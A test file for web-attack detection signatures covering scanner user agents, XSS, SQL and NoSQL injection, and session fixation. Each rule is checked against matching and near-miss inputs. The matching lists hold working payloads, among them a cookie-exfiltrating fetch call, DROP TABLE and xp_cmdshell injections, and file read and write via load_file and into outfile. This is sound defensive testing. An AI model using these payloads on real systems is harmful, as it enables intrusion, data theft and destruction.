// What the signatures of `sd`, `xss`, `sqli` and `sf` are found in, and what is close to it and ordinary.
import { describe } from "node:test";
import { testSignatures } from "../../../test/signatures.ts";
import { CRS } from "./sets.ts";

describe("sd", () => {
  testSignatures(CRS.sd, {
    sd_agent: {
      found: [
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
        "Fuzz Faster U Fool v2.1.0",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
      ],
      notFound: ["Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)", "Arachnid/1.0", "nucleic-browser/2"],
    },
    sd_header: { found: ["WVS/10.0 (Acunetix)", "enabled"], notFound: ["", " "] },
    sd_path: {
      found: ["/acunetix-wvs-test-for-some-inexistent-file", "/nice ports,/Trinity.txt.bak", "/NmapLowerCheck1700"],
      notFound: ["/nice ports", "/trinity.txt", "/nmap", "/acunetix"],
    },
    sd_callback: {
      found: ["http://abc123.oast.pro/", "x7.oastify.com", "ping abc.burpcollaborator.net", "//a.interact.sh"],
      notFound: ["coast.pro", "oast.example", "https://interact.example/", "toast.live"],
    },
  });
});

describe("xss", () => {
  testSignatures(CRS.xss, {
    xss_script: {
      found: ["<script>alert(1)</script>", "%3Cscript%3E", "<ScRiPt/x>", "</script "],
      notFound: ["<scripts>", "manuscript", "< script>", "<description>"],
    },
    xss_handler: {
      found: ["<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", '<a href="x"onclick =y', "%3cbody onload%3dx"],
      notFound: ["<a href=x>once=1", "<p>on click = later", "1 < 2 and onload=3", '<item ontology="x">'],
    },
    xss_attribute: {
      found: ['" onmouseover="alert(1)', "' autofocus onfocus=x '", '"/onclick=x'],
      notFound: ['"only=1', "it's on click", '"once = x', "' on = '"],
    },
    xss_address: {
      found: ["javascript:alert(1)", "\tjava\nscript:x", "VBScript:x"],
      notFound: ["javascript", "learn javascript: basics", "javascripts:a"],
    },
    xss_address_attribute: {
      found: ['<a href="javascript:alert(1)">', "src = data:text/html;base64,x", "formaction=JaVaScRiPt:x"],
      notFound: ['href="/javascript"', "src=data:image/png;base64,x", "sofahref=javascript"],
    },
    xss_element: {
      found: ["<iframe src=x>", "<svg>", "%3Cembed%20x", "<base/"],
      notFound: ["<b>", "<metal>", "<baseline>", "a<object"],
    },
    xss_page_data: {
      found: [
        "fetch('//x?'+document.cookie)",
        "location=document.cookie;",
        "eval(atob('x'))",
        "String.fromCharCode(88",
      ],
      notFound: ["document.cookie", "what is document.domain for", "evaluate(atob", "fromCharCode(88"],
    },
  });
});

describe("sqli", () => {
  testSignatures(CRS.sqli, {
    sqli_union: {
      found: [
        "1 UNION SELECT null,null",
        "1/**/union/**/all/**/select/**/1,2",
        "x' union select password from users",
        "-1%20union%20select%20@@version",
      ],
      notFound: ["the credit union select committee", "reunion select 1", "union of select things", "union square"],
    },
    sqli_always: {
      found: ["' or '1'='1", "x' OR 1=1", "') or ('a'='a", '" or ""="', "'||'1'='1", "a' and 5 like 5"],
      notFound: ["rock 'n' roll or jazz", "'this' or 'that'", "O'Brian and 3 others", '"a" and b = "c"'],
    },
    sqli_always_number: {
      found: ["1 or 1=1", "5) and 1=2", "-1 OR 3>2", "/item/7 and 1=1"],
      notFound: ["1 or 2", "3 and 4 = seven", "page 1 or 1=1", "5 x 3=15"],
    },
    sqli_cut_off: {
      found: ["admin'--", "x');-- -", "a' -- "],
      notFound: ["rock 'n' roll -- live", "a--", "'--' is a dash", "--help"],
    },
    sqli_second_statement: {
      found: [
        "1; DROP TABLE users",
        "x';delete from a",
        "1;exec xp_cmdshell",
        "1;insert into a (b) values (1)",
        "1; update users set a=1",
      ],
      notFound: [
        "drop table",
        "; drop by the table",
        "it; delete from lists soon",
        "first; update your app",
        "a; delete from",
        "; create a view",
      ],
    },
    sqli_delay: {
      found: [
        "1; select pg_sleep(10)",
        "1' WAITFOR DELAY '0:0:5'",
        "1 and sleep(5)",
        "benchmark(1000000,md5(1))",
        "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z",
      ],
      notFound: ["sleep(5)", "wait for delay", "benchmark (fast)", "i sleep (8 hours)", "waitfor it"],
    },
    sqli_catalogue: {
      found: ["select x from information_schema.tables", "a from sqlite_master", "@@version"],
      notFound: ["information_schema", "from sysobject", "me@@versions", "information.tables"],
    },
    sqli_function: {
      found: [
        "extractvalue(1,concat(0x7e,version()))",
        "load_file('/etc/hosts')",
        "into outfile '/var/www/x.php'",
        "exec xp_cmdshell",
      ],
      notFound: ["load_file(name)", "into the outfile", "concat(a, b)", "extractvalue(xml, '/a')"],
    },
    sqli_document_name: {
      found: ["password[$ne]", "user[$regex]", "a[$where]"],
      notFound: ["filters[name][$eq]", "price[$gt]", "password", "filters[token][$ne]"],
    },
    sqli_document_member: {
      found: ['{"username":"a","password":{"$ne":null}}', '{"$where":"sleep(100)"}', '{"token": { "$gt": "" }}'],
      notFound: ['{"price":{"$gt":5}}', '{"$where":5}', '{"password":"$ne"}'],
    },
  });
});

describe("sf", () => {
  testSignatures(CRS.sf, {
    sf_script: {
      found: ["document.cookie='sid=1'", 'x;document.cookie = "a"'],
      notFound: ["document.cookie", "document.cookie == 'a'", "document.cookies='a'"],
    },
    sf_markup: {
      found: ['<meta http-equiv="Set-Cookie" content="sid=1">', "http-equiv=set-cookie"],
      notFound: ['<meta http-equiv="refresh">', "http-equiv set-cookie"],
    },
    sf_header: {
      found: ["a\r\nSet-Cookie: sid=1", "%0d%0aset-cookie%3a"],
      notFound: ["set-cookie: sid=1", "a\nset-cookies: 1"],
    },
    sf_parameter: {
      found: ["PHPSESSID", "jsessionid", "ASPSESSIONIDQQ"],
      notFound: ["session", "session_id", "my_phpsessid"],
    },
  });
});
